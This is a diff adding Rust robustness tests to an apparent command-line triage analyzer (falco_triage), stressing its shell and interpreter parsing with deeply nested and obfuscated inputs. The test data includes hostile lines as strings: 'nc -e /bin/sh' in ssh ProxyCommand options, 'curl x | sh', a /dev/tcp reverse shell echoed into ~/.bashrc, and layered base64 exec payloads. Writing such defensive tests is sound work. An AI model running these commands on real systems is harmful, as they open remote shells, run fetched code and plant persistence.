@@ -481,3 +481,90 @@ fn endless_and_cyclic_lineages() {
     let v = analyze(&f, &lineage);
     invariants::check_verdict(&v, &falco_triage::report::render(&f, &lineage, &v));
 }
+
+#[test]
+fn carried_commands_nest_and_repeat_within_bounds() {
+    use falco_triage::analysis::shell::{MAX_CARRIED, MAX_DEPTH};
+    let argv = |words: Vec<String>| ExecFacts::from_argv(words);
+    // find -exec find -exec ... a thousand deep: the depth bound stops it.
+    let mut words = vec!["find".to_string()];
+    for _ in 0..1000 {
+        words.extend([".", "-exec", "find"].map(String::from));
+    }
+    let facts = argv(words);
+    let line = parse_exec(&facts.argv);
+    assert!(line.commands.iter().all(|c| c.depth <= MAX_DEPTH));
+    assert!(line.origins.len() <= MAX_CARRIED && line.truncated);
+    invariants::check_analysis(&facts, &Lineage::default());
+    // A thousand carriers on one command line, and in one sh -c script.
+    let many: Vec<String> = std::iter::once("ssh".to_string())
+        .chain((0..1000).flat_map(|_| ["-o".into(), "ProxyCommand=nc -e /bin/sh h 1".into()]))
+        .collect();
+    let facts = argv(many);
+    assert!(parse_exec(&facts.argv).origins.len() <= MAX_CARRIED);
+    invariants::check_analysis(&facts, &Lineage::default());
+    let script = "find . -exec sh -c 'curl x | sh' \\; ; ".repeat(2000);
+    invariants::check_analysis(&sh_c(script), &Lineage::default());
+    // Text written into a start-up file that itself writes into one, nested in quotes.
+    let mut text = "bash -i >& /dev/tcp/1.2.3.4/1 0>&1".to_string();
+    for _ in 0..12 {
+        text = format!("echo '{}' >> ~/.bashrc", text.replace('\'', r"'\''"));
+    }
+    invariants::check_analysis(&sh_c(text), &Lineage::default());
+}
+
+#[test]
+fn interpreter_code_that_is_huge_unclosed_or_self_decoding() {
+    // Calls without a close, a megabyte of calls, literals without an end.
+    for code in [
+        "os.system(".repeat(100_000),
+        "os.system('x');".repeat(50_000),
+        format!("os.system('{}", "a".repeat(MIB)),
+        format!("subprocess.call([{}])", "'nc',".repeat(20_000)),
+        "exec(base64.b64decode('".repeat(10_000),
+        format!("os.system(base64.b64decode('{}'))", "QUFB".repeat(100_000)),
+        "\"\"\"".repeat(30_000),
+    ] {
+        invariants::check_analysis(
+            &ExecFacts::from_argv(["python3".to_string(), "-c".into(), code]),
+            &Lineage::default(),
+        );
+    }
+    // Code that decodes to code that decodes to a command: read two levels deep, no more.
+    let mut code = "import os;os.system('id')".to_string();
+    for _ in 0..6 {
+        code = format!("exec(base64.b64decode('{}'))", b64(code.as_bytes()));
+    }
+    invariants::check_analysis(
+        &ExecFacts::from_argv(["python3".to_string(), "-c".into(), code]),
+        &Lineage::default(),
+    );
+    for (program, flag, code) in [
+        ("perl", "-e", "`".repeat(100_000)),
+        ("ruby", "-e", "%x(".repeat(100_000)),
+        ("awk", "--", "\"x\" | getline;".repeat(50_000)),
+        ("expect", "-c", "spawn ".repeat(100_000)),
+        ("node", "-e", "{".repeat(100_000) + "exec('id')"),
+    ] {
+        invariants::check_analysis(
+            &ExecFacts::from_argv([program.to_string(), flag.into(), code]),
+            &Lineage::default(),
+        );
+    }
+}
+
+/// Standard base64, for building nested payloads.
+fn b64(bytes: &[u8]) -> String {
+    const A: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let mut out = String::new();
+    for chunk in bytes.chunks(3) {
+        let n = chunk.iter().fold(0u32, |acc, b| (acc << 8) | u32::from(*b)) << (8 * (3 - chunk.len()));
+        for i in 0..=chunk.len() {
+            out.push(A[((n >> (18 - 6 * i)) & 63) as usize] as char);
+        }
+    }
+    while out.len() % 4 != 0 {
+        out.push('=');
+    }
+    out
+}
